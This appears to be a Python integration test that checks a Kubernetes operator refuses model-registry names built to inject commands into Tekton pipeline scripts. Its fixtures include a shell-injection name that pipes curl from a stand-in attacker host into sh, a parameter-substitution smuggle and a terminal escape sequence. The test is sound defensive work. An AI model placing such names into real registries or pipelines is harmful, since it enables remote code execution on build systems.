"""A model registered under a name that would be code in a pipeline is never injected.

Whoever may register a model chooses its name, and Tekton pastes `$(params.model_name)`
into step scripts as text. Registered against a deployed URI, such a name makes the
deployment's binding `UnsafeRegistryName`: its runs are denied, nothing is injected, its
labels are left alone, and what a person reads (binding, Events, the denial) shows the name
escaped.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from integration.operator.faults_support import stored_runs, try_run
from registry_sync.registry.client import RegistryClient
from support.bindings import MODEL_BINDINGS, wait_for_ready
from support.cluster import Cluster
from support.cluster_objects import INFERENCE_SERVICES
from support.operator import RunningOperator

pytestmark = pytest.mark.cluster

# Each deployment is claimed by a model named by an attacker (and one ordinary name, which
# shows the same path ends Ready when the name is safe).
CLAIMS = {
    "quoted": 'm"; curl -s http://attacker.example/x | sh; echo "',
    "newline": "m\n$(context.pipelineRun.name)",
    "terminal": "m\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J",
    "ordinary": "Granite-3.1-8B-Instruct",
}
PARAMS = {"vllm_model_name": "x", "model_name": "y", "version_name": "z"}


def uri_of(deployment: str) -> str:
    return f"oci://quay.io/example/{deployment}:v1"


def inference_service(namespace: str, deployment: str) -> dict[str, Any]:
    return {
        "apiVersion": "serving.kserve.io/v1beta1",
        "kind": "InferenceService",
        "metadata": {
            "name": deployment,
            "namespace": namespace,
            "annotations": {"registry-sync.io/enabled": "true"},
        },
        "spec": {
            "predictor": {
                "model": {"modelFormat": {"name": "vLLM"}, "storageUri": uri_of(deployment)}
            }
        },
    }


def raw_controls(text: str) -> list[str]:
    return [c for c in text if ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F]


async def test_a_hostile_registry_name_is_refused_and_never_injected(
    kube: Cluster,
    namespace: str,
    registry_client: RegistryClient,
    operator: RunningOperator,
) -> None:
    for deployment, model_name in CLAIMS.items():
        model = await registry_client.create_registered_model(model_name)
        version = await registry_client.create_model_version(model.id, "v1")
        await registry_client.create_model_artifact(
            version.id, name=deployment, uri=uri_of(deployment)
        )
        INFERENCE_SERVICES.create(
            kube.api_client, namespace, inference_service(namespace, deployment)
        )

    wait_for_ready(kube, namespace, "True", "Resolved", name="ordinary")
    admitted = try_run(kube, namespace, "ordinary", PARAMS)
    assert isinstance(admitted, dict), admitted

    for deployment in ("quoted", "newline", "terminal"):
        binding = wait_for_ready(kube, namespace, "False", "UnsafeRegistryName", name=deployment)
        denied = try_run(kube, namespace, deployment, PARAMS)
        assert isinstance(denied, str), f"{deployment}: a run was admitted: {denied}"
        assert "UnsafeRegistryName" in denied, denied
        assert raw_controls(denied) == [], denied
        stored = INFERENCE_SERVICES.get(kube.api_client, namespace, deployment)
        assert not stored["metadata"].get("labels"), "labels were written for an unsafe answer"
        assert raw_controls(json.dumps(binding["status"], ensure_ascii=False)) == []

    # Only the ordinary deployment's run exists, and it carries the ordinary names only.
    runs = stored_runs(kube, namespace)
    targets = [run["metadata"]["labels"]["registry-sync.io/inference-service"] for run in runs]
    assert targets == ["ordinary"]
    injected = json.dumps(runs)
    for hostile in ("attacker.example", "$(context", "\\u001b"):
        assert hostile not in injected

    # Events follow the binding's status (write, then Events): wait for all three.
    def unsafe_event_subjects() -> set[str] | None:
        events = kube.core.list_namespaced_event(namespace).items
        named = {e.involved_object.name for e in events if e.reason == "UnsafeRegistryName"}
        return named if named >= {"quoted", "newline", "terminal"} else None

    assert kube.wait_for(unsafe_event_subjects, timeout=10, description="UnsafeRegistryName") == {
        "quoted",
        "newline",
        "terminal",
    }
    events = kube.core.list_namespaced_event(namespace).items
    for event in events:
        assert raw_controls(event.message or "") == [], event.message
    for deployment in CLAIMS:
        assert MODEL_BINDINGS.get(kube.api_client, namespace, deployment)["status"]
